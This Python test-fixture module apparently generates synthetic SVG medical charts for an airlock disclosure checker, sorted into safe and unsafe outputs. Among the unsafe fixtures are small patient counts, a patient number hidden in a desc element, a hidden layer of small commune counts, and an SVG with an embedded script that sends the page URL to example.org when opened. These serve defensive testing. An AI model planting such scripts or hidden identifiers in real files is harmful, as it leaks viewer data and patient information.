"""SVG figures: drawn by matplotlib, by Altair and by hand."""

import html
import re
from random import Random
from typing import Any

import altair as alt
import numpy as np
import pandas as pd

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs4 import plots
from tests.airlock.outputs4.cohort import ipp, ratios

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="640" height="420" viewBox="0 0 640 420" font-family="sans-serif">'
)


def write(shelf: Shelf) -> None:
    leaks(shelf)
    hidden(shelf)
    released(shelf)


def _text(x: float, y: float, words: str, size: int = 14) -> str:
    return f'<text x="{x:.0f}" y="{y:.0f}" font-size="{size}">{html.escape(words)}</text>'


def _bars(title: str, bars: list[tuple[str, int]], scale: float) -> str:
    out = [HEAD, _text(20, 30, title, 18)]
    for i, (name, value) in enumerate(bars):
        y = 60 + 45 * i
        out += [
            _text(20, y + 20, name),
            f'<rect x="170" y="{y}" width="{value * scale:.1f}" height="28" fill="#579"/>',
            _text(180 + value * scale, y + 20, str(value)),
        ]
    return "\n".join([*out, "</svg>", ""])


def _altair(chart: Any) -> str:
    import vl_convert

    return str(vl_convert.vegalite_to_svg(chart.to_dict()))


def leaks(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "svg/bars_causes_deces.svg", "small_count", "bar Suicide: 6", "Causes de décès de la cohorte", "1 212 décès"
    )
    path.write_text(
        _bars(
            "Causes de décès",
            [("Cardiovasculaire", 512), ("Cancer", 388), ("Infection", 204), ("Accident", 41), ("Suicide", 6)],
            0.75,
        ),
        "utf-8",
    )

    path = shelf.unsafe(
        "svg/km_steps.svg",
        "points",
        "a step for each of 30 patients a group",
        "Kaplan-Meier curves",
        "60 patients with glioblastoma",
    )
    plots.save(
        plots.steps(
            shelf.random("svg-km"),
            30,
            "Overall survival",
            "Months",
            "Survival",
            ("MGMT methylated", "Unmethylated"),
            0.06,
        ),
        path,
    )

    rng = np.random.default_rng(81)
    path = shelf.unsafe(
        "svg/altair_points.svg",
        "points",
        "a point for each of 66 patients",
        "Weight against dose, one point per patient",
        "66 patients on heparin",
    )
    frame = pd.DataFrame({"weight": rng.normal(74, 12, 66).round(1), "dose": rng.normal(18, 3, 66).round(1)})
    path.write_text(
        _altair(alt.Chart(frame, title="Heparin dose").mark_circle().encode(x="weight:Q", y="dose:Q")),
        "utf-8",
    )

    r = shelf.random("svg-lollipop")
    path = shelf.unsafe(
        "svg/suivi_individuel.svg",
        "points",
        "a lane for each of 20 patients, titled « patient 1 »...",
        "Suivi individuel des patients inclus",
        "20 patients en essai de phase 1",
    )
    out = [HEAD, _text(20, 24, "Suivi individuel (semaines)", 16)]
    for i in range(20):
        end = r.randrange(120, 480)
        out.append(
            f'<g><title>patient {i + 1} : {end // 10} semaines</title><line x1="100" x2="{100 + end}" y1="{45 + 18 * i}" y2="{45 + 18 * i}" stroke="#246"/><circle cx="{100 + end}" cy="{45 + 18 * i}" r="4"/></g>'
        )
    path.write_text("\n".join([*out, "</svg>", ""]), "utf-8")


def hidden(shelf: Shelf) -> None:
    r = shelf.random("svg-desc")
    path = shelf.unsafe(
        "svg/forest_desc.svg", "identifier", "desc element with a patient number", "Forest plot", "6,020 patients"
    )
    plots.save(plots.forest(ratios(r, "en", 7), "Readmission", "OR (95% CI)"), path)
    drawn = path.read_text("utf-8")
    path.write_text(re.sub(r"(<svg [^>]*>)", rf"\1<desc>outlier removed: {ipp(r)}</desc>", drawn, count=1), "utf-8")

    path = shelf.unsafe(
        "svg/carte_calques.svg",
        "hidden",
        "calque display:none : effectifs de 1 à 8 par commune",
        "Carte du taux de recours par territoire",
        "61 000 patients, 12 territoires",
    )
    path.write_text(_map(r, True), "utf-8")

    path = shelf.unsafe(
        "svg/diagram_with_script.svg", "macro", "script run when the picture is opened", "Diagram of the pathway", ""
    )
    boxes = [_text(60 + 150 * i, 200, name) for i, name in enumerate(("Emergency", "Scanner", "Unit", "Home"))]
    path.write_text(
        "\n".join([HEAD, *boxes, "<script>fetch('https://example.org/p?u='+location.href)</script>", "</svg>", ""]),
        "utf-8",
    )


def _map(r: Random, layer: bool) -> str:
    out = [HEAD, _text(20, 30, "Taux de recours pour 1 000 habitants", 17)]
    for i in range(12):
        x, y = 40 + 145 * (i % 4), 60 + 110 * (i // 4)
        out += [
            f'<rect x="{x}" y="{y}" width="130" height="95" fill="hsl(210,60%,{r.randrange(45, 85)}%)" stroke="white"/>',
            _text(x + 12, y + 52, f"T{i + 1:02d} : {r.randrange(21, 68)}"),
        ]
    if layer:
        towns = [
            _text(40 + 145 * (i % 4), 80 + 30 * (i // 4), f"commune {i + 1} : {r.randrange(1, 9)} patients")
            for i in range(16)
        ]
        out.append('<g style="display:none">' + "".join(towns) + "</g>")
    return "\n".join([*out, "</svg>", ""])


def released(shelf: Shelf) -> None:
    r = shelf.random("svg-safe-map")
    path = shelf.safe(
        "svg/carte_recours.svg",
        "taux de 12 territoires de plus de 3 000 patients",
        "Carte du taux de recours par territoire",
        "61 000 patients, au moins 3 000 par territoire",
    )
    path.write_text(_map(r, False), "utf-8")

    path = shelf.safe(
        "svg/forest_main.svg", "ratios and intervals", "Forest plot", "7,740 patients with type 2 diabetes"
    )
    plots.save(plots.forest(ratios(shelf.random("svg-f"), "en", 9, "HR"), "Kidney events", "HR (95% CI)"), path)

    path = shelf.safe(
        "svg/altair_monthly.svg",
        "one point a month",
        "Consultations by month, rounded to 10",
        "about 3,000 consultations a month",
    )
    rng = np.random.default_rng(82)
    frame = pd.DataFrame(
        {
            "month": pd.date_range("2021-01-01", periods=36, freq="MS").strftime("%Y-%m"),
            "consultations": (3000 + rng.normal(0, 160, 36)).round(-1),
        }
    )
    path.write_text(
        _altair(
            alt.Chart(frame, title="Consultations by month")
            .mark_line(point=True)
            .encode(x="month:O", y="consultations:Q")
        ),
        "utf-8",
    )

    path = shelf.safe(
        "svg/survival_monthly.svg",
        "estimates by month of very large groups",
        "Survival by month",
        "14,200 and 16,900 patients",
    )
    plots.save(
        plots.smooth("Survival by month", "Months", "Survival", (("A, n = 14200", 0.01), ("B, n = 16900", 0.014))),
        path,
    )

    path = shelf.safe("svg/barres_pole.svg", "effectifs de milliers", "Séjours par pôle", "18 400 séjours")
    path.write_text(
        _bars(
            "Séjours par pôle, 2023",
            [("Médecine", 7210), ("Chirurgie", 5894), ("Mère-enfant", 3102), ("Gériatrie", 2194)],
            0.055,
        ),
        "utf-8",
    )
